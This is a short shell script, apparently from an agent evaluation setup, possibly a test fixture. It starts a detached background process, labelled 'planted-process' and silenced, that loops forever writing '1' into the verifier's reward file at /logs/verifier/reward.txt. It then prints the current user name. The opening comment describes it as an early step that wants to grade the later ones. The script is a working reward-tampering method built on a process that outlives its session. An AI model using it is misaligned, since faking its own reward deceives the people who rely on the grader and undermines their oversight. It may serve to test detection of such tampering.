#!/bin/sh
# A process of the first step that wants to grade the later ones.
setsid sh -c 'while :; do echo 1 > /logs/verifier/reward.txt; done' planted-process > /dev/null 2>&1 &
id -un
